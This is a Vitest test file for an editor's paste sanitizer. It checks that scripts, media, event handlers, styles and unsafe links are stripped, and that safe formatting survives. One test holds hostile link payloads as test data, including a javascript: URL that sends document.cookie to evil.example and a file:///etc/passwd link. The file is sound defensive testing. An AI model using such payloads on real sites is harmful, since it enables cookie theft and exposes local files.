// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { parseStyleAttribute, sanitizePaste } from '../../../src-renderer/src/editor/sanitizePaste';

function parse(html: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div;
}

describe('sanitizePaste', () => {
  it('removes scripts, frames, media, styles and their content', () => {
    const out = sanitizePaste(
      '<p>Kept</p><script>steal()</script><style>p{color:red}</style><iframe src="https://x.example"></iframe>' +
        '<img src="https://tracker.example/p.gif"><picture><source srcset="https://x.example/a.webp"></picture>' +
        '<video src="https://x.example/v.mp4">fallback</video><audio src="a.mp3"></audio><object data="x.swf">obj</object>' +
        '<embed src="x.swf"><link rel="stylesheet" href="https://x.example/s.css"><meta http-equiv="refresh" content="0">',
    );
    expect(out).toBe('<p>Kept</p>');
  });

  it('strips event handlers, style and class attributes', () => {
    const root = parse(
      sanitizePaste(
        '<p class="x" style="color:red" onclick="go()" onmouseover="go()">Hi <b onload="x()">there</b></p>',
      ),
    );
    const all = Array.from(root.querySelectorAll('*'));
    expect(all.map((el) => el.tagName)).toEqual(['P', 'B']);
    for (const el of all) expect(el.getAttributeNames()).toEqual([]);
    expect(root.textContent).toBe('Hi there');
  });

  it('keeps web and mail links and unlinks javascript: and data: ones', () => {
    const root = parse(
      sanitizePaste(
        '<p><a href="https://ok.example/a">web</a> <a href="mailto:me@example.com">mail</a> ' +
          '<a href="javascript:alert(1)">js</a> <a href=" JaVaScRiPt:alert(1)">js2</a> <a href="data:text/html,x">data</a> ' +
          '<a href="/relative">rel</a></p>',
      ),
    );
    const links = Array.from(root.querySelectorAll('a')).map((a) => [
      a.textContent,
      a.getAttribute('href'),
    ]);
    expect(links).toEqual([
      ['web', 'https://ok.example/a'],
      ['mail', 'mailto:me@example.com'],
    ]);
    expect(root.textContent).toBe('web mail js js2 data rel');
  });

  it('unlinks hostile links that carry a web or mail address inside them', () => {
    const hostile = [
      "javascript:fetch('https://evil.example/steal?c='+document.cookie)",
      'JavaScript:location="https://evil.example"',
      'data:text/html,<a href="https://evil.example">x</a>',
      'vbscript:msgbox("http://evil.example")',
      "javascript:void('mailto:me@example.com')",
      'file:///etc/passwd#https://ok.example',
      '/redirect?to=https://evil.example',
    ];
    const html = `<p>${hostile.map((href, i) => `<a href='${href.replace(/'/g, '&#39;')}'>bad${i}</a> `).join('')}<a href="https://ok.example/b">good</a></p>`;
    const root = parse(sanitizePaste(html));
    expect(
      Array.from(root.querySelectorAll('a')).map((a) => [a.textContent, a.getAttribute('href')]),
    ).toEqual([['good', 'https://ok.example/b']]);
    expect(root.textContent).toBe(`${hostile.map((_, i) => `bad${i} `).join('')}good`);
    expect(root.innerHTML).not.toMatch(/javascript|vbscript|data:|file:/i);
  });

  it('keeps the supported structure and inline formats', () => {
    const html =
      '<h1>A</h1><h2>B</h2><h3>C</h3><p>x<br>y <b>b</b> <strong>s</strong> <i>i</i> <em>e</em> <u>u</u> <s>s</s> <code>c</code></p>' +
      '<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>q</blockquote>';
    expect(sanitizePaste(html)).toBe(html);
  });

  it('turns CSS formatting from word processors into tags', () => {
    const root = parse(
      sanitizePaste(
        '<b style="font-weight:normal" id="docs-internal-guid-1"><p><span style="font-weight:700">bold</span> ' +
          '<span style="font-style:italic">it</span> <span style="text-decoration:underline">un</span> ' +
          '<span style="text-decoration:line-through">st</span> plain</p></b>',
      ),
    );
    expect(root.querySelector('b')?.textContent).toBe('bold');
    expect(root.querySelector('i')?.textContent).toBe('it');
    expect(root.querySelector('u')?.textContent).toBe('un');
    expect(root.querySelector('s')?.textContent).toBe('st');
    expect(root.querySelectorAll('b')).toHaveLength(1);
  });

  it('flattens tables into one paragraph per row', () => {
    const root = parse(
      sanitizePaste(
        '<table><thead><tr><th>Skill</th><th>Level</th></tr></thead><tbody><tr><td>SQL</td><td>4</td></tr></tbody></table>',
      ),
    );
    expect(Array.from(root.querySelectorAll('p')).map((p) => p.textContent)).toEqual([
      'Skill | Level',
      'SQL | 4',
    ]);
  });
});

describe('parseStyleAttribute', () => {
  it('reads declarations as text, since a CSP without inline styles leaves the CSSOM empty', () => {
    expect(
      parseStyleAttribute(
        'font-weight:700; FONT-STYLE: Italic ;text-decoration: underline !important;;junk',
      ),
    ).toEqual({
      'font-weight': '700',
      'font-style': 'italic',
      'text-decoration': 'underline',
    });
  });
});
